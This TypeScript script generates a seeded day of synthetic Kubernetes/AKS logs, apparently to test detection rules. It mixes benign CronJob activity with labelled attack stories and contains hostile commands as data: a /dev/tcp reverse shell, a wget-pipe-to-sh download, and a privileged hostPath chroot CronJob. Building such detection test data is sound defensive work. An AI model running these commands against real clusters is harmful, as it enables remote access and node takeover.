/**
 * Writes `samples/`: one day (2026-11-24 UTC) of a small AKS-style cluster with the attack
 * stories of issue 6 woven in, plus `samples/labels.json` saying which records belong to
 * which story (everything unlabelled is benign). Seeded: the same files every run.
 *
 * Benign: the cronjob-controller/job-controller running three legitimate CronJobs (db-backup
 * nightly, daily-report on weekdays, queue-drain every 15 minutes) with their Jobs and Pods,
 * kube-state-metrics watching CronJobs, CI deploying the web Deployment and bumping the
 * report CronJob's image tag, admins running kubectl get pods / describe. Every job pod gets
 * the kubelet's `pods/status` patch with its container ids (what lineage joins endpoint
 * events on), and the node's Falco alerts cover the pods' processes (`falco-node.jsonl`).
 *
 * Run: `npx tsx scripts/gen-samples.ts`.
 */
import { writeFileSync } from 'node:fs';
import { mulberry32 } from '../test/seeded-random.js';
import {
  ADMIN_WS,
  auditdExec,
  fileCreate,
  KUBECTL_WIN,
  NODE,
  POWERSHELL,
  processCreate,
  setEndpointClock,
} from './gen-endpoint-rule-tests.js';
import {
  AGENTS,
  audit,
  BACKUP,
  type CronJobOptions,
  clockNow,
  createCronJob,
  createJob,
  cronJob,
  falcoAlert,
  jobOfCronJob,
  PEOPLE,
  podOfJob,
  podStatus,
  REPORT,
  REVERSE_SHELL,
  type StartedPod,
  setClock,
  startedPod,
  workload,
} from './gen-rule-tests.js';

type Json = Record<string, unknown>;

const DAY = Date.parse('2026-11-24T00:00:00Z');
const OUT = new URL('../samples/', import.meta.url).pathname;

const random = mulberry32(20261124);

interface Timed {
  readonly timeMs: number;
  readonly text: string;
  readonly story?: string;
  readonly lines: number;
}

const audits: Timed[] = [];
const adminWs: Timed[] = [];
const bastion: Timed[] = [];
const node: Timed[] = [];
const activity: { record: Json; story: string }[] = [];
const falco: Timed[] = [];

function at(hour: number, minute: number, second = 0): number {
  return DAY + ((hour * 60 + minute) * 60 + second) * 1000 - 37_000;
}

function push(list: Timed[], timeMs: number, event: Json, story?: string): void {
  list.push({ timeMs, text: JSON.stringify(event), ...(story ? { story } : {}), lines: 1 });
}

function auditAt(
  hour: number,
  minute: number,
  build: () => Json,
  story?: string,
  second?: number,
): void {
  setClock(at(hour, minute, second ?? Math.floor(random() * 30)));
  const event = build();
  push(audits, Date.parse(String(event.stageTimestamp)), event, story);
}

const QUEUE_DRAIN: CronJobOptions = {
  name: 'queue-drain',
  namespace: 'shop',
  schedule: '*/15 * * * *',
  containers: [
    { name: 'drain', image: 'registry.example.com/shop/queue-drain:1.8.2', args: ['--max=500'] },
  ],
};

/** The node every job pod of the day runs on, as the kubelet names itself. */
const NODE_NAME = NODE.computer;

/** Job and pod of one scheduled run, the pod's status patch; returns the started pod. */
function scheduledRun(
  cron: CronJobOptions,
  hour: number,
  minute: number,
  story?: string,
): StartedPod {
  const minutes = Math.floor((DAY + (hour * 60 + minute) * 60_000) / 60_000);
  auditAt(hour, minute, () => jobOfCronJob(cron, minutes), story);
  // The job-controller creates the pod a few seconds after the Job.
  let podEvent: Json = {};
  auditAt(
    hour,
    minute,
    () => {
      podEvent = podOfJob(`${cron.name}-${minutes}`, cron.namespace, cron.containers);
      return podEvent;
    },
    story,
    45,
  );
  const pod = startedPod(podEvent, cron.containers);
  // The kubelet reports the running container a few seconds later.
  auditAt(hour, minute + 1, () => podStatus(pod, NODE_NAME), story, 2);
  return pod;
}

function pushFalco(timeMs: number, record: Json, story?: string): void {
  push(falco, timeMs, record, story);
}

// --- benign day -------------------------------------------------------------------------
for (let hour = 0; hour < 24; hour++) {
  for (const minute of [0, 15, 30, 45]) {
    const pod = scheduledRun(QUEUE_DRAIN, hour, minute);
    // Falco's default "Contact K8S API Server From Container" fires on every drain run at
    // 09:00–09:45 (a rule-tuning day): a job pod's benign process, no shell, no finding.
    if (hour === 9)
      pushFalco(
        at(hour, minute + 1, 45),
        falcoAlert(at(hour, minute + 1, 45), pod, NODE_NAME, {
          rule: 'Contact K8S API Server From Container',
          priority: 'Notice',
          evtType: 'connect',
          exe: '/app/queue-drain',
          cmdline: 'queue-drain --max=500',
          parentExe: '/usr/bin/containerd-shim-runc-v2',
          parentCmdline: 'containerd-shim-runc-v2 -namespace k8s.io',
          pid: 1,
          sip: '10.0.0.1',
          sport: 443,
          tags: ['T1565', 'container', 'k8s', 'maturity_stable', 'mitre_discovery', 'network'],
        }),
      );
  }
  auditAt(hour, 7, () =>
    audit({
      verb: 'list',
      resource: 'cronjobs',
      user: PEOPLE.ksm,
      level: 'Request',
      userAgent: 'kube-state-metrics/v2.12.0',
      sourceIP: '10.244.2.9',
    }),
  );
  auditAt(hour, 37, () =>
    audit({
      verb: 'list',
      resource: 'jobs',
      user: PEOPLE.ksm,
      level: 'Request',
      userAgent: 'kube-state-metrics/v2.12.0',
      sourceIP: '10.244.2.9',
    }),
  );
}
scheduledRun(BACKUP, 1, 30);
scheduledRun(REPORT, 6, 0);
for (const [hour, tag] of [
  [9, '4.2.1'],
  [13, '4.2.2'],
  [16, '4.3.0'],
] as const) {
  auditAt(hour, 12, () =>
    audit({
      verb: 'patch',
      resource: 'deployments',
      apiGroup: 'apps',
      namespace: 'shop',
      name: 'web',
      user: PEOPLE.ci,
      userAgent: AGENTS.helm,
      request: {
        spec: {
          template: {
            spec: { containers: [{ name: 'web', image: `registry.example.com/shop/web:${tag}` }] },
          },
        },
      },
      response: workload(
        'Deployment',
        {
          name: 'web',
          namespace: 'shop',
          containers: [{ name: 'web', image: `registry.example.com/shop/web:${tag}` }],
        },
        true,
      ),
    }),
  );
}
// CI bumps the report CronJob's image: inventory-level findings expected (CW-001, CW-007, CW-009 low).
const REPORT_NEXT: CronJobOptions = {
  ...REPORT,
  containers: [
    {
      ...(REPORT.containers[0] as { name: string; image: string }),
      image: 'registry.example.com/analytics/report:2.4.0',
    },
  ],
};
auditAt(10, 5, () =>
  audit({
    verb: 'update',
    resource: 'cronjobs',
    namespace: 'analytics',
    name: 'daily-report',
    user: PEOPLE.ci,
    userAgent: AGENTS.helm,
    request: cronJob(REPORT_NEXT, true),
    response: cronJob(REPORT_NEXT, true),
  }),
);

// --- attack stories ---------------------------------------------------------------------
// S1: stolen kubeconfig → every-minute CronJob with a reverse shell, and the pods it spawns.
auditAt(
  14,
  2,
  () => createCronJob(PEOPLE.mallory, REVERSE_SHELL, { sourceIP: '203.0.113.66' }),
  'S1-stolen-kubeconfig-reverse-shell',
);
// The job pod's processes: Falco on the node sees the shell and its outbound connection.
for (const minute of [3, 4]) {
  const story = 'S1-stolen-kubeconfig-reverse-shell';
  const pod = scheduledRun(REVERSE_SHELL, 14, minute, story);
  const shell = {
    exe: '/bin/bash',
    cmdline: 'bash -i',
    parentExe: '/bin/sh',
    parentCmdline: 'sh -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1',
    pid: 9,
  };
  const started = at(14, minute + 1, 40);
  pushFalco(
    started,
    falcoAlert(started, pod, NODE_NAME, {
      ...shell,
      rule: 'Run shell untrusted',
      priority: 'Notice',
      evtType: 'execve',
      // The second run's alert comes before Falco has the pod's metadata.
      podKnown: minute === 3,
      tags: [
        'T1059.004',
        'container',
        'host',
        'maturity_stable',
        'mitre_execution',
        'process',
        'shell',
      ],
    }),
    story,
  );
  pushFalco(
    started + 1000,
    falcoAlert(started + 1000, pod, NODE_NAME, {
      ...shell,
      rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
      priority: 'Notice',
      evtType: 'dup2',
      sip: '203.0.113.66',
      sport: 4444,
      podKnown: minute === 3,
      tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'network', 'process'],
    }),
    story,
  );
}
// S2: a web pod's service-account token creates a Job.
auditAt(
  15,
  20,
  () =>
    createJob(
      PEOPLE.webPod,
      {
        name: 'cache-warm',
        namespace: 'shop',
        containers: [
          {
            name: 'w',
            image: 'alpine:3.20',
            command: ['sh', '-c', 'wget -qO- http://203.0.113.9/m | sh'],
          },
        ],
      },
      { userAgent: AGENTS.curl, sourceIP: '10.244.1.17' },
    ),
  'S2-pod-token-job',
);
// S3: the legitimate backup CronJob's image is swapped by a strategic patch (Request level).
auditAt(
  17,
  41,
  () =>
    audit({
      verb: 'patch',
      resource: 'cronjobs',
      namespace: 'payments',
      name: 'db-backup',
      user: PEOPLE.mallory,
      level: 'Request',
      sourceIP: '203.0.113.66',
      request: {
        spec: {
          jobTemplate: {
            spec: {
              template: {
                spec: { containers: [{ name: 'backup', image: 'ghcr.io/x0r/pg-backup:15.4' }] },
              },
            },
          },
        },
      },
    }),
  'S3-backup-image-tampering',
);
// S4: manual trigger of the tampered backup right away.
auditAt(
  17,
  43,
  () =>
    createJob(PEOPLE.mallory, {
      name: 'db-backup-manual-q9z',
      namespace: 'payments',
      containers: [{ name: 'backup', image: 'ghcr.io/x0r/pg-backup:15.4' }],
      metadata: {
        annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' },
        ownerReferences: [
          { apiVersion: 'batch/v1', kind: 'CronJob', name: 'db-backup', controller: true },
        ],
      },
    }),
  'S4-manual-trigger',
);
// S5: privileged hostPath CronJob hidden in kube-system.
auditAt(
  19,
  10,
  () =>
    createCronJob(PEOPLE.mallory, {
      name: 'kube-proxy-healthz',
      namespace: 'kube-system',
      schedule: '*/5 * * * *',
      containers: [
        {
          name: 'h',
          image: 'busybox:1.36',
          command: ['chroot', '/host', 'sh', '-c', 'id'],
          securityContext: { privileged: true },
        },
      ],
      extra: { hostPID: true, volumes: [{ name: 'host', hostPath: { path: '/' } }] },
    }),
  'S5-privileged-kube-system-cronjob',
);
// S6: the same actor through the Azure data plane (Activity Log).
activity.push({
  story: 'S6-azure-activity',
  record: {
    time: new Date(at(14, 1)).toISOString(),
    resourceId:
      '/SUBSCRIPTIONS/0B1F6471-1BF0-4DDA-AEC3-CB9272F09590/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-PROD',
    operationName: 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/CRONJOBS/WRITE',
    category: 'Administrative',
    resultType: 'Success',
    callerIpAddress: '203.0.113.66',
    caller: 'mallory@contractor.example',
    level: 'Information',
    status: 'Succeeded',
    correlationId: '6c1f7a52-4d0e-4b8a-9a51-2f3e4d5c6b7a',
  },
});
activity.push({
  story: '',
  record: {
    time: new Date(at(9, 30)).toISOString(),
    resourceId:
      '/SUBSCRIPTIONS/0B1F6471-1BF0-4DDA-AEC3-CB9272F09590/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-PROD',
    operationName: 'MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/LISTCLUSTERUSERCREDENTIAL/ACTION',
    category: 'Administrative',
    resultType: 'Success',
    callerIpAddress: '198.51.100.20',
    caller: 'alice@example.com',
    level: 'Information',
    status: 'Succeeded',
    correlationId: '0d9e8f7a-6b5c-4d3e-8f1a-2b3c4d5e6f70',
  },
});

// Endpoint: benign admin work, then S7 (Sysmon, admin workstation), S8 (auditd, bastion),
// S9 (manifest dropped on a node).
function endpoint(list: Timed[], hour: number, minute: number, text: string, story?: string): void {
  list.push({
    timeMs: at(hour, minute),
    text,
    ...(story ? { story } : {}),
    lines: text.split('\n').length,
  });
}
setEndpointClock(at(9, 40));
endpoint(
  adminWs,
  9,
  40,
  processCreate(
    ADMIN_WS,
    KUBECTL_WIN,
    'kubectl.exe -n shop get pods -o wide',
    'CORP\\alice',
    POWERSHELL,
  ),
);
endpoint(
  adminWs,
  9,
  41,
  processCreate(
    ADMIN_WS,
    KUBECTL_WIN,
    'kubectl.exe -n shop describe deployment web',
    'CORP\\alice',
    POWERSHELL,
  ),
);
setEndpointClock(at(13, 58));
endpoint(
  adminWs,
  13,
  58,
  processCreate(
    ADMIN_WS,
    KUBECTL_WIN,
    `"${KUBECTL_WIN}" --kubeconfig C:\\Users\\Public\\k.conf create cronjob kube-metrics-sync --image=alpine:3.20 --schedule="*/1 * * * *" -- /bin/sh -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"`,
    'CORP\\mallory',
    POWERSHELL,
  ),
  'S7-kubectl-admin-workstation',
);
setEndpointClock(at(17, 40));
endpoint(bastion, 8, 30, auditdExec('/usr/local/bin/kubectl', ['kubectl', 'get', 'nodes'], 1000));
endpoint(
  bastion,
  17,
  40,
  auditdExec(
    '/usr/local/bin/kubectl',
    [
      'kubectl',
      '-n',
      'payments',
      'create',
      'job',
      'db-backup-manual-q9z',
      '--from=cronjob/db-backup',
    ],
    1001,
  ),
  'S8-kubectl-linux-auditd',
);
setEndpointClock(at(19, 5));
endpoint(
  node,
  3,
  0,
  fileCreate(
    NODE,
    '/usr/bin/containerd',
    '/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db',
    'root',
  ),
);
endpoint(
  node,
  19,
  5,
  fileCreate(NODE, '/usr/bin/cp', '/etc/kubernetes/manifests/kube-proxy-healthz.yaml', 'root'),
  'S9-manifest-on-node',
);

// --- write ------------------------------------------------------------------------------
interface Label {
  readonly file: string;
  readonly fromLine: number;
  readonly toLine: number;
  readonly story: string;
}
const labels: Label[] = [];
const SCENARIO_FILES = [
  'audit.jsonl',
  'activity-log.jsonl',
  'sysmon-admin-ws.xml',
  'auditd-bastion.log',
  'sysmon-node.xml',
  'falco-node.jsonl',
];

function writeLines(file: string, records: Timed[]): void {
  records.sort((a, b) => a.timeMs - b.timeMs);
  let line = 1;
  for (const record of records) {
    if (record.story)
      labels.push({ file, fromLine: line, toLine: line + record.lines - 1, story: record.story });
    line += record.lines;
  }
  writeFileSync(`${OUT}${file}`, `${records.map((r) => r.text).join('\n')}\n`);
}

writeLines('audit.jsonl', audits);
writeLines('sysmon-admin-ws.xml', adminWs);
writeLines('auditd-bastion.log', bastion);
writeLines('sysmon-node.xml', node);
writeLines('falco-node.jsonl', falco);
activity.sort((a, b) => String(a.record.time).localeCompare(String(b.record.time)));
writeFileSync(
  `${OUT}activity-log.jsonl`,
  `${activity.map((a) => JSON.stringify(a.record)).join('\n')}\n`,
);
activity.forEach((a, index) => {
  if (a.story)
    labels.push({
      file: 'activity-log.jsonl',
      fromLine: index + 1,
      toLine: index + 1,
      story: a.story,
    });
});
writeFileSync(
  `${OUT}labels.json`,
  `${JSON.stringify({ description: 'The files of the scenario set; records of each attack story (1-based line ranges); every other record of these files is benign.', files: SCENARIO_FILES, labels }, null, 2)}\n`,
);
